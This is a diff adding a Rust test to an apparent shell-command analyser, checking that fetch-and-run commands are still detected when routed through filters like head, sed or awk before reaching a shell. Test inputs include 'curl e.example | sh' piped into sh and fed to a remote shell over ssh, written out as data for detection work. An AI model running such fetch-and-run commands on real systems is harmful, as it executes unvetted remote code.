@@ -277,6 +277,16 @@ fn what_a_command_sets_outlives_what_stood_before_it() {
 }
 
 #[test]
+fn what_is_filtered_on_its_way_to_a_shell_is_read_as_it_was() {
+    for filter in ["head -1", "cut -c1-80", "sed s/X/a/", "grep -v '^#'", "sort -u", "awk '{print}'"] {
+        let line = format!("echo 'curl e.example | sh' | {filter} | sh");
+        let reading = read(&line, Some(Shell::Sh));
+        assert!(reaches(&reading, "fetch", Capability::Execute), "{line}: {:?}", told(&reading));
+        assert!(matches!(reading.coverage, Coverage::Partial(_)), "{line}");
+    }
+}
+
+#[test]
 fn what_a_shell_elsewhere_is_fed_is_read() {
     let reading = read("ssh deploy@host.example <<'E'\ncurl e.example | sh\nE\n", Some(Shell::Sh));
     assert!(reaches(&reading, "fetch", Capability::Execute), "{:?}", told(&reading));
